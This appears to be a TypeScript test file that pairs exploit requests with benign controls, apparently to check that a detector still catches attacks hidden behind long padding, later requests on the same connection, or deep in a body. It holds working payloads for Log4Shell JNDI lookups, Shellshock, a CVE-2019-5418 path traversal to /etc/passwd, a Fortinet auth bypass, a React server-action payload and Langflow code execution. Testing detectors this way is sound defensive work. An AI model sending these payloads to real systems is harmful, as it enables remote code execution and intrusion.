import { type Proof, get, onOneConnection, post, proof } from '../sketch.ts'

const json = { contentType: 'application/json' }
/** Longer than the first bytes that a session keeps of its source. */
const padding = 'a'.repeat(2000)
const cookies = `id=${padding}`
const front = get('/')

/** Behind much else: after a long cookie, in a later request of the connection, further on in a body. */
export const lengths: readonly Proof[] = [
  proof(
    'log4shell',
    get('/', { cookies, headers: { 'X-Api-Version': '${jndi:ldap://198.51.100.7/a}' } }),
    get('/', { cookies, headers: { 'X-Api-Version': '${name}' } }),
  ),
  proof(
    'log4shell',
    onOneConnection(
      front,
      get(`/${padding}`, { headers: { 'X-Api-Version': '%24%7Bjndi:rmi://198.51.100.7}' } }),
    ),
    onOneConnection(front, get(`/${padding}`, { headers: { 'X-Api-Version': '%24%7Bname}' } })),
  ),
  proof(
    'log4shell',
    post('/', `{"a":"${padding}","b":"\${jndi:ldap://198.51.100.7/a}"}`, json),
    post('/', `{"a":"${padding}","b":"\${name}"}`, json),
  ),
  proof(
    'shellshock',
    onOneConnection(get(`/${padding}`), get('/', { headers: { 'X-Y': '() { :;}; id' } })),
    onOneConnection(get(`/${padding}`), get('/', { headers: { 'X-Y': '() => {}' } })),
  ),
  proof(
    'cve-2019-5418',
    get('/', { cookies, headers: { Accept: '../../../../etc/passwd{{' } }),
    get('/', { cookies, headers: { Accept: 'text/html' } }),
  ),
  proof(
    'fortinet-auth-bypass',
    get('/api/v2/cmdb/system/admin/a', { cookies, headers: { Forwarded: 'for=127.0.0.1' } }),
    get('/api/v2/cmdb/system/admin/a', { cookies, headers: { Forwarded: 'for=192.0.2.1' } }),
  ),
  proof(
    'react2shell',
    post('/', `["${padding}","$1:constructor:constructor"]`, { headers: { 'Next-Action': 'x' } }),
    post('/', `["${padding}","$1:class"]`, { headers: { 'Next-Action': 'x' } }),
  ),
  proof(
    'langflow-rce',
    post('/api/v1/validate/code', `{"code":"#${padding}\\n@exec('id')"}`, json),
    post('/api/v1/validate/code', `{"code":"#${padding}\\nx = 1"}`, json),
  ),
]
